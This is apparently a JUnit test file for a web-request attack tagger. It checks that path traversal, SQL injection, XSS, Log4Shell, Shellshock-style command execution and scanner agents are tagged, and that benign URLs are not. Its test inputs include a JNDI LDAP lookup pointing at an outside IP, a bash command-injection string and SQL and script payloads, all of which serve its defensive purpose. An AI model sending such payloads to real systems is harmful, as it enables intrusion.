package dev.footfall.signal;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeout;
import static org.junit.jupiter.api.DynamicTest.dynamicTest;

import dev.footfall.signal.AttackRules.Place;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class AttackTagsTest {
    private static final int HOSTILE_LENGTH = 65_536;
    private static final AttackRules RULES = AttackRules.bundled();

    @TestFactory
    Stream<DynamicTest> findsTheExamplesOfEachRule() {
        return RULES.rules().stream().flatMap(rule -> rule.examples().stream()
                .map(example -> dynamicTest(rule.tag() + ": " + example, () -> assertThat(tags(rule, example))
                        .contains(rule.tag()))));
    }

    @TestFactory
    Stream<DynamicTest> sparesTheCounterExamplesOfEachRuleFromAllTags() {
        return RULES.rules().stream().flatMap(rule -> rule.counterExamples().stream()
                .map(example -> dynamicTest("not " + rule.tag() + ": " + example, () -> {
                    // What some other rule rightly tags is not this rule's concern: only its own tag.
                    assertThat(tags(rule, example)).doesNotContain(rule.tag());
                })));
    }

    @Test
    void everyTagHasARuleAndEveryRuleALiteralInLowerCase() {
        assertThat(RULES.rules().stream().map(AttackRules.Rule::tag).distinct().toList())
                .containsExactlyInAnyOrderElementsOf(AttackTags.ALL);
        assertThat(RULES.rules()).allSatisfy(rule -> {
            assertThat(rule.any()).isNotEmpty().allSatisfy(literal -> assertThat(literal)
                    .isLowerCase());
            assertThat(rule.examples()).hasSizeGreaterThanOrEqualTo(3);
            assertThat(rule.counterExamples()).hasSizeGreaterThanOrEqualTo(2);
        });
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/",
                "/shop/red-shoes?size=42&colour=red%20%26%20white",
                "/search?q=l%27or%C3%A9al+shampoo",
                "/search?q=men%27s+and+women%27s",
                "/search?q=drop+table+leaf",
                "/search?q=select+comfort+bed+from+ikea",
                "/search?q=rock+%26+roll+;-)",
                "/cart?items=1%7C2%7C3&coupon=10%25OFF",
                "/a.b/c..d/e...f",
                "/product/union-jack-select-edition",
                "/blog/how-to-use-javascript-alert",
                "/checkout?return=https%3A%2F%2Fshop.example%2Fthanks",
                "/wiki/Cat_(animal)",
                "/wiki/C%2B%2B",
                "/search?q=what+is+%3Cb%3E",
                "/item?id=42&ref=email&utm_campaign=mother%27s-day",
                "/search?q=sleep+(number)+bed",
                "/feed.xml",
                "/api/v1/users?filter=name:eq:o%27brien&order=asc",
                "/login?next=/account/orders",
                "/oauth/callback?code=a--b&state=x%3D%3D",
                "/file/report..pdf",
                "/x?json=%7B%22a%22%3A%5B1%2C2%5D%7D",
                "/search?q=%22exact+phrase%22+or+other",
                "/search?q=id%3D5+or+id%3D6",
                "/style.css?v=1.0--beta",
                "/event?from=2024-01-01&to=2024-02-01",
                "/img/photo.jpg?w=100&h=100#top",
                "/search?q=update+from+windows+7",
                "/t-shirts?on=sale&load=more",
                "/search?q=confirm(ed)"
            })
    void leavesOrdinaryRequestsAlone(String target) {
        assertThat(AttackTags.tags(
                        target,
                        "https://www.google.com/",
                        "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0"))
                .isNull();
    }

    @Test
    void givesTagsOnceAndInTheOrderOfTheList() {
        assertThat(AttackTags.tags(
                        "/../../.env?x=<script>alert(1)</script>&y=1+union+select+2",
                        "https://x.example/?q=<script>1</script>",
                        "sqlmap/1.7"))
                .isEqualTo("traversal,sensitive-file,sqli,xss,scanner");
    }

    @Test
    void findsAttacksInReferrersAndAgents() {
        assertThat(AttackTags.tags("/", "${jndi:ldap://198.51.100.7/a}", null)).isEqualTo("log4shell");
        assertThat(AttackTags.tags("/", null, "() { :; }; /bin/bash -c id")).isEqualTo("rce");
        assertThat(AttackTags.tags("/", "https://x.example/?id=1'+or+'1'='1", null))
                .isEqualTo("sqli");
    }

    @Test
    void decodesTwiceAndNoMore() {
        assertThat(AttackTags.tags("/%252e%252e%252fa", null, null)).isEqualTo("traversal");
        assertThat(AttackTags.tags("/%25252e%25252e%25252fa", null, null)).isNull();
    }

    @Test
    void takesMissingTextForNone() {
        assertThat(AttackTags.tags(null, null, null)).isNull();
        assertThat(AttackTags.tags("", "", "")).isNull();
    }

    @TestFactory
    Stream<DynamicTest> spendsLittleOnHostileText() {
        List<String> seeds =
                new ArrayList<>(List.of("a", "%", "%25", "/", "../", "'", "(", "<", "/*", " ", "\u0000", "\ud800"));
        RULES.rules().forEach(rule -> seeds.addAll(rule.any()));
        return Stream.of(dynamicTest("all literals, repeated", () -> {
            for (String seed : seeds) {
                String text = "/?" + seed.repeat(HOSTILE_LENGTH / seed.length());
                assertTimeout(Duration.ofSeconds(1), () -> AttackTags.tags(text, text, text), seed);
            }
        }));
    }

    private static List<String> tags(AttackRules.Rule rule, String example) {
        String tags;
        if (rule.in().stream().anyMatch(p -> p != Place.REFERRER && p != Place.AGENT)) {
            tags = AttackTags.tags(example, null, null);
        } else if (rule.in().contains(Place.REFERRER)) {
            tags = AttackTags.tags(null, example, null);
        } else {
            tags = AttackTags.tags(null, null, example);
        }
        return tags == null ? List.of() : List.of(tags.split(","));
    }
}
